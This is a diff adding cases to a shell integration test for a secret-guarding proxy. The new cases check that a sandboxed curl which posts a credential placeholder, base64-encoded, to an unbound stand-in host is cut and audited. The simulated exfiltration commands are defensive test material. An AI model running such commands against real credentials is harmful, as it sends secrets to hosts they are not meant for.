@@ -9,9 +9,15 @@
 # terminated tunnel, go.  A canary (canaries =) reaches the sandbox with
 # the placeholders; sent base64'd in a body to the bound host it is cut,
 # with an alert line and postern_canary_total.  A CONNECT whose host name
-# spells the placeholder in hex labels is refused.
+# spells the placeholder in hex labels is refused.  Through README's
+# bwrap recipe (postern-bridge on the session's UNIX socket, as uid 1000)
+# and inside `postern-sidecar run --secret`, curl posting the placeholder
+# from its environment base64'd to a host its secret is not bound to is
+# cut, and the same request without it goes.
 . "$top_srcdir/tests/integration/lib/world.sh"
+. "$top_srcdir/tests/integration/lib/recipe.sh"
 world_up
+recipe_dir
 . "$top_srcdir/tests/integration/lib-admin/admin.sh"
 
 VALUE="tsk-$(od -An -N20 -tx1 /dev/urandom | tr -d ' \n')"
@@ -21,7 +27,8 @@ mkdir -p "$state"
 chmod 700 "$state"
 conf="$WORLD_DIR/postern.ini"
 {
-	admin_proxy_section "upstream_ca_file = $WORLD_CA" "state_dir = $state"
+	admin_proxy_section "upstream_ca_file = $WORLD_CA" "state_dir = $state" \
+		"listen = unix:$RECIPE_DIR/s1/proxy.sock mode=666"
 	cat <<-EOF
 		[defaults]
 		allow_hosts = allowed.test private, other.test private, *.exfil.test private
@@ -196,5 +203,60 @@ expect_audit "audited: in the host name, hex, at the close" event=close why=secr
 	host=other.test detail~"\\(hex, in the host name\\)"
 
 no_secret_logged
+
+# ecurl_cmd TAG: a shell line for CMD: its PX_ variables, then two POSTs
+# to other.test: /TAG-plain without the placeholder, /TAG-enc with it
+# base64'd; each status is printed.
+ecurl_cmd() {
+	printf '%s' 'env | grep "^PX_"
+		c() { curl -sS --max-time 10 -o /dev/null -w "$1=%{http_code}\n" --data-binary "$2" "http://other.test/$1"; }
+		c '"$1"'-plain "data=nothing&more=1"
+		c '"$1"'-enc "data=$(printf %s "$PX_TEST_KEY" | base64 -w0)&more=1"'
+}
+# echeck WHERE TAG OUT: what CMD printed and what the upstream got.
+echeck() {
+	local ph
+	ph=$(printf '%s\n' "$3" | sed -n 's/^PX_TEST_KEY=//p')
+	expect_match '.' "$ph" "$1: CMD's PX_TEST_KEY holds a placeholder"
+	expect_no_match "$VALUE" "$3" "$1: the value is not in CMD's environment"
+	expect_match "^$2-plain=200$" "$3" "$1: the POST without the placeholder: 200"
+	expect_upstream "$1: and it reached other.test" target=/$2-plain body_length=19
+	expect_no_match "^$2-enc=200$" "$3" "$1: the POST with it base64'd: no 200"
+	body="data=$(printf %s "$ph" | base64 -w0)&more=1"
+	expect_eq 0 "$(upstream_count target=/$2-enc body_length=${#body})" \
+		"$1: the upstream never got that body whole"
+}
+
+# 8. README's bwrap recipe, as uid 1000, through postern-bridge on the
+# session's UNIX socket; the launcher's environment holds the value.
+if recipe_ok; then
+	out=$(recipe_run sh -c "$(ecurl_cmd recipe)" 2>"$WORLD_DIR/bwrap.err")
+	echeck "bwrap recipe" recipe "$out
+$(tail -c 300 "$WORLD_DIR/bwrap.err")"
+	expect_audit "bwrap recipe: the cut is audited with the encoding, uid 1000 on the UNIX socket" \
+		event=close path=/recipe-enc "peer~^unix:.*uid=1000" why=secret_misdirected \
+		detail~"^the request carries the placeholder of secret k \\(base64, in the body\\)"
+else
+	diag "bwrap, postern-bridge or user namespaces for uid 1000 are missing: the bwrap recipe is not tried"
+fi
+
+# 9. Inside postern-sidecar run --secret k, with k bound to allowed.test.
+if [ -x "$top_builddir/postern-sidecar" ] && [ -x "$top_builddir/postern-bridge" ]; then
+	cat >"$WORLD_DIR/sc.ini" <<-EOF
+		[defaults]
+		allow_hosts = allowed.test private, other.test private
+		[secret k]
+		from_env = PX_TEST_KEY
+		inject = allowed.test header x-api-key
+	EOF
+	out=$(in_px env -i PATH=/usr/bin:/bin LANG=C.UTF-8 PX_TEST_KEY="$VALUE" \
+		"$top_builddir/postern-sidecar" run --config "$WORLD_DIR/sc.ini" \
+		--bridge "$RECIPE_DIR/postern-bridge" --secret k -- sh -c "$(ecurl_cmd sidecar)" \
+		</dev/null 2>"$WORLD_DIR/sc.err")
+	echeck "sidecar run" sidecar "$out
+$(tail -c 300 "$WORLD_DIR/sc.err")"
+else
+	diag "postern-sidecar or postern-bridge is not built: the sidecar run is not tried"
+fi
 proxy_stop
 expect_eq 0 $? "the proxy exits cleanly"
